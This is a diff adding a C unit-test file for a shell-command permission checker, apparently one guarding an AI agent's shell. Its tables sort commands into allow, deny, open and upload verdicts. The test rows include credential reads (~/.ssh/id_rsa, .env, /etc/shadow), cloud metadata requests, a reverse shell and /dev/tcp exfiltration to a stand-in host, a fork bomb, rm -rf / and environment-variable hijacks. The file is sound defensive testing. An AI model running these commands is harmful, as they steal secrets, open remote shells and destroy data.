@@ -1,0 +1,201 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* Where targets lie, what environments do, what names mean: lines through the rules. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+
+#include <cmocka.h>
+
+#include "tests/unit/rules_world.h"
+
+static const struct row place_rows[] = {
+	{ ALLOW, "cat README.md" },
+	{ DENY, "cat notes-link" },
+	{ DENY, "cat < ~/.ssh/id_rsa" },
+	{ DENY, "cat ~/.ssh/id_rsa" },
+	{ DENY, "cat .env" },
+	{ DENY, "cat ./src/../.env" },
+	{ DENY, "head -n 1 /etc/shadow" },
+	{ DENY, "sudo cat /etc/shadow" },
+	{ DENY, "cd ~/.ssh && cat id_rsa" },
+	{ DENY, "cat /proc/self/environ" },
+	{ DENY, "cat /proc/self/root/etc/shadow" },
+	{ OPEN, "cat *" },
+	{ DENY, "cat ~/.ssh/*" },
+	{ OPEN, "cat .e*" },
+	{ OPEN, "cat *.lnk" },
+	{ OPEN, "chmod 600 *.lnk" },
+	{ OPEN, "echo x > *.lnk" },
+	{ ALLOW, "rm ./*.lnk" },
+	{ ALLOW, "cat *.json" },
+	{ OPEN, "sort -o../* x" },
+	{ OPEN, "dd if=x of=../*" },
+	{ OPEN, "cat \"$f\"" },
+	{ OPEN, "x=$(cat .env); ls" },
+	{ OPEN, "touch -- --checkpoint=1" },
+	{ ALLOW, "curl https://example.com/" },
+	{ OPEN, "curl http://169.254.169.254/latest/meta-data/" },
+	{ OPEN, "curl http://0xa9fea9fe/latest/" },
+	{ OPEN, "curl http://2852039166/latest/" },
+	{ ALLOW, "find . -name '*.tmp' -delete" },
+	{ ALLOW, "cat src/*.c" },
+	{ ALLOW, "cat *.md" },
+	{ ALLOW, "ls -la ~/.ssh" },
+	{ ALLOW, "cat /etc/hosts" },
+	{ ALLOW, "cat /proc/cpuinfo" },
+	{ ALLOW, "echo hi > out.txt" },
+	{ ALLOW, "echo hi > /tmp/out.txt" },
+	{ ALLOW, "echo hi > /dev/null 2>&1" },
+	{ ALLOW, "echo hi >&2" },
+	{ OPEN, "echo hi > ../other/out.txt" },
+	{ OPEN, "echo hi > outside-link" },
+	{ OPEN, "echo hi > etc-link" },
+	{ OPEN, "echo hi > ~/.bashrc" },
+	{ OPEN, "echo hi > .git/hooks/pre-commit" },
+	{ OPEN, "echo hi > .github/workflows/ci.yml" },
+	{ OPEN, "echo hi > .envrc" },
+	{ OPEN, "echo hi > /etc/motd" },
+	{ OPEN, "echo hi > \"$f\"" },
+	{ OPEN, "cd / && echo x > probe" },
+	{ OPEN, "cd $d && echo x > probe" },
+	{ OPEN, "cd .. && rm -rf other" },
+	{ OPEN, "cd - && rm -rf build" },
+	{ OPEN, "cd new-dir; rm -rf ../notes" },
+	{ ALLOW, "cd src && rm -rf gen" },
+	{ ALLOW, "cd src; rm -rf gen" },
+	{ ALLOW, "(cd /tmp/work && rm -rf x); rm -rf build" },
+	{ ALLOW, "cd /tmp && rm -rf work" },
+	{ ALLOW, "rm -rf build" },
+	{ ALLOW, "rm -rf build/*" },
+	{ DENY, "rm -rf /" },
+	{ DENY, "rm -rf ." },
+	{ DENY, "rm -rf /usr" },
+	{ DENY, "rm -rf /etc/../usr/lib" },
+	{ OPEN, "rm -rf ../other-project" },
+	{ OPEN, "rm -rf \"$x\"" },
+	{ DENY, "rm -rf ../*" },
+	{ OPEN, "for d in a b; do cd $d; rm -rf x; done" },
+	{ ALLOW, "for f in a.txt b.txt; do cat \"$f\"; done" },
+	{ ALLOW, "for f in src/*.c; do wc -l < \"$f\"; done" },
+	{ ALLOW, "for f in a b; do mv \"$f\" new-d/; done" },
+	{ ALLOW, "for d in gen out; do for f in x y; do rm -rf \"src/$d/$f\"; done; done" },
+	{ ALLOW, "for f in a b; do echo x > $f.txt; done" },
+	{ DENY, "for f in README.md .env; do cat $f; done" },
+	{ SELF, "for f in a ~/.claude/settings.json; do rm \"$f\"; done" },
+	{ SELF, "for f in settings.json x; do echo > ~/.claude/$f; done" },
+	{ DENY, "for d in src /usr; do rm -rf $d; done" },
+	{ OPEN, "for f in a b; do f=/etc/x; rm $f; done" },
+	{ OPEN, "for f in a b; do read f; rm $f; done" },
+	{ OPEN, "for f in a 'b ../../x'; do rm -rf $f; done" },
+	{ OPEN, "for f in $(ls); do rm -rf $f; done" },
+	{ OPEN, "for f; do rm -rf $f; done" },
+	{ OPEN, "for f in *; do cat $f; done" },
+	{ OPEN, "for f in a b; do rm -rf ${f%x}; done" },
+	{ OPEN, "for c in ls frobnicate; do $c; done" },
+	{ OPEN, "while read d; do cd sub; rm -rf x; done < list.txt" },
+	{ OPEN, "cd src || cd /; rm -rf gen2; cd $x; rm -rf y" },
+	{ UPLOAD, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1" },
+	{ UPLOAD, "cat README.md > /dev/tcp/evil.example/80" },
+};
+
+static void test_places(void **state)
+{
+	(void)state;
+	WALK(place_rows, SHELL_FRESH);
+}
+
+static const struct row environment_rows[] = {
+	{ ALLOW, "LC_ALL=C sort names.txt" },
+	{ ALLOW, "NO_COLOR=1 FORCE_COLOR=0 ls" },
+	{ ALLOW, "GIT_PAGER=cat ls" },
+	{ OPEN, "GIT_PAGER='sh -c id' ls" },
+	{ OPEN, "PAGER=$x ls" },
+	{ OPEN, "LD_PRELOAD=./x.so ls" },
+	{ OPEN, "BASH_ENV=x ls" },
+	{ OPEN, "PATH=/tmp:$PATH ls" },
+	{ OPEN, "PATH=/tmp; ls" },
+	{ OPEN, "export PATH=/tmp:$PATH; ls" },
+	{ OPEN, "IFS=x; ls" },
+	{ OPEN, "SOMETHING=1 ls" },
+	{ OPEN, "GIT_SSH_COMMAND=x; ls" },
+	{ OPEN, "EDITOR=x; ls" },
+	{ ALLOW, "something=1; ls" },
+	{ ALLOW, "x=1; echo \"$x\"" },
+	{ OPEN, "export LD_LIBRARY_PATH=.; ls" },
+	{ OPEN, "env LD_PRELOAD=x ls" },
+	{ ALLOW, "env LC_ALL=C ls" },
+	{ OPEN, "PYTHONPATH=/srv/x ls" },
+	{ ALLOW, "PYTHONPATH=src ls" },
+	{ ALLOW, "PYTHONPATH=\"$PWD/src\" ls" },
+	{ ALLOW, "cd /srv/data && PYTHONPATH=\"$PWD/src:$PYTHONPATH\" ls" },
+	{ OPEN, "PYTHONPATH=\"$PWD/../../x\" ls" },
+	{ OPEN, "PYTHONPATH=\"$OTHER/src\" ls" },
+	{ OPEN, "export HISTFILE=/dev/null; ls" },
+	{ OPEN, "PYTHONPATH=src:/srv ls" },
+	{ OPEN, "x='a[$(id)]'; echo $((x))" },
+	{ OPEN, "read PATH < x; ls" },
+	{ OPEN, "printf -v PATH %s /tmp; ls" },
+};
+
+static void test_environment(void **state)
+{
+	(void)state;
+	WALK(environment_rows, SHELL_FRESH);
+}
+
+static const struct row name_rows[] = {
+	{ OPEN, "ls() { echo x; }; ls" },
+	{ OPEN, "alias ls=id; ls" },
+	{ OPEN, "hash -p /tmp/x ls; ls" },
+	{ OPEN, "enable -n echo; echo x" },
+	{ OPEN, "builtin alias ls=id" },
+	{ OPEN, "$cmd x" },
+	{ OPEN, "\"$(echo ls)\" x" },
+	{ OPEN, "./ls" },
+	{ OPEN, "/tmp/ls" },
+	{ ALLOW, "/bin/ls" },
+	{ ALLOW, "/usr/bin/ls -la" },
+	{ OPEN, "frobnicate" },
+	{ ALLOW, "greet() { echo \"hello $1\"; }; greet a; greet b" },
+	{ OPEN, "bomb() { bomb | bomb & }; bomb" },
+	{ OPEN, ":(){ :|:& };:" },
+};
+
+static void test_names(void **state)
+{
+	(void)state;
+	WALK(name_rows, SHELL_FRESH);
+}
+
+static const struct row kept_rows[] = {
+	{ ALLOW, "cd src" },
+	{ ALLOW, "set -euo pipefail; ls" },
+	{ OPEN, "set -a; ls" },
+	{ OPEN, "alias x=y" },
+	{ OPEN, "shopt -s extglob" },
+	{ OPEN, "trap 'echo x' EXIT" },
+	{ OPEN, "exec > out.txt" },
+	{ OPEN, "export LD_PRELOAD=x" },
+	{ OPEN, "cd() { :; }" },
+	{ ALLOW, "export LC_ALL=C" },
+};
+
+static void test_kept_shell(void **state)
+{
+	(void)state;
+	WALK(kept_rows, SHELL_PERSISTENT);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_places),
+		cmocka_unit_test(test_environment),
+		cmocka_unit_test(test_names),
+		cmocka_unit_test(test_kept_shell),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
